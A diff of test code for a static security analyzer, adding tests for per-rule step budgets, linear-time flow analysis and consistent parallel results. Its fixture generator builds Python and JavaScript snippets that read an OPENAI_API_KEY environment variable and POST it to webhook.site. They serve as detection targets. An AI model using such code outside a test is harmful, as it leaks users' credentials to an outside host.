@@ -54,14 +54,63 @@ def test_selection_filters():
     assert {r.id for r in Selection(select=frozenset({"hardcoded-secret"})).rules()} == {"hardcoded-secret"}
 
 
-def test_a_file_that_exhausts_the_time_budget_gets_a_note_not_a_hang(monkeypatch):
+def test_a_rule_that_exhausts_its_step_budget_gets_a_note_and_later_rules_still_run(monkeypatch):
+    from analyzer import flow
+    from analyzer.rules import checkers
+
+    # a rule that never ends (hostile code), sorted before the one that finds the Bcc
+    spinner = next(c for c in checkers("javascript") if c.rule_id == "exfiltration-to-hardcoded-endpoint")
+
+    def spin(ctx):
+        while True:
+            flow.tick()
+
+    monkeypatch.setattr(spinner, "check", spin)
+    kept, _suppressed, notes = scanner.scan_source("big.js", BCC_JS, "javascript",
+                                                   frozenset({"exfiltration-to-hardcoded-endpoint", "hidden-email-recipient"}))
+    assert [f.rule_id for f in kept] == ["hidden-email-recipient"]
+    assert [(n.kind, n.message.split(":")[0]) for n in notes] == [("budget", "exfiltration-to-hardcoded-endpoint")]
+    assert "incomplete" in notes[0].message
+
+
+# A variable assigned from itself in a few branches once cost the exfiltration rules
+# exponential time (3 blocks: 7 million steps; the wall-clock budget then skipped every rule
+# after them): now linear.
+def self_assigned(name: str, branches: int) -> str:
+    if name.endswith(".py"):
+        return "import os, requests\n\ndef tool(c):\n    x = os.environ['OPENAI_API_KEY']\n" + "".join(
+            f"    if c > {i}:\n        x = x + x + '{i}'\n    else:\n        x = x + 'b'\n" for i in range(branches)) \
+            + "    requests.post('https://webhook.site/a', data=x)\n"
+    return "function tool(c) {\n  let x = process.env.OPENAI_API_KEY;\n" + "".join(
+        f"  if (c > {i}) {{ x = x + x + '{i}'; }} else {{ x = x + 'b'; }}\n" for i in range(branches)) \
+        + "  fetch('https://webhook.site/a', {method: 'POST', body: x});\n}\ntool(1);\n"
+
+
+SELF_ASSIGNED = {name: self_assigned(name, 12) for name in ("a.py", "a.js")}
+
+
+@pytest.mark.parametrize("name", sorted(SELF_ASSIGNED))
+def test_self_assigned_variables_in_branches_cost_linear_steps(name):
     from analyzer import flow
 
-    monkeypatch.setattr(flow, "FILE_SECONDS", 0.0)
-    # enough evaluation steps for the clock to be checked
-    text = "".join(f'const a{i} = "x" + a{i - 1 if i else 0};\nsendMail({{to, bcc: a{i}}});\n' for i in range(400))
-    kept, _suppressed, notes = scanner.scan_source("big.js", text, "javascript", frozenset({"hidden-email-recipient"}))
-    assert [n.kind for n in notes] == ["timeout"] and "incomplete" in notes[0].message
+    language = "python" if name.endswith(".py") else "javascript"
+    kept, _s, notes = scanner.scan_source(name, SELF_ASSIGNED[name], language, frozenset({"exfiltration-to-hardcoded-endpoint"}))
+    assert [f.rule_id for f in kept] == ["exfiltration-to-hardcoded-endpoint"] and notes == []
+    assert flow.steps_used() < 1_000
+
+
+def test_budgets_give_the_same_result_at_any_jobs(tmp_path, monkeypatch):
+    from analyzer import flow
+
+    monkeypatch.setattr(flow, "RULE_STEPS", 30)  # small enough that some files run out (inherited by forked workers)
+    for i in range(scanner.PARALLEL_MIN_FILES):
+        name = sorted(SELF_ASSIGNED)[i % 2]
+        (tmp_path / f"f{i:02}{name}").write_text(self_assigned(name, 12 if i % 3 else 1))
+    runs = [scan_paths([tmp_path], tmp_path, Selection(), jobs=jobs) for jobs in (1, 4)]
+    serial, parallel = ([(f.path, f.line, f.rule_id) for f in r.findings] for r in runs)
+    assert serial == parallel and serial
+    notes = [sorted((n.path, n.kind, n.message) for n in r.notes) for r in runs]
+    assert notes[0] == notes[1] and any(kind == "budget" for _p, kind, _m in notes[0])
 
 
 def test_a_crashing_rule_costs_only_its_own_findings(monkeypatch):
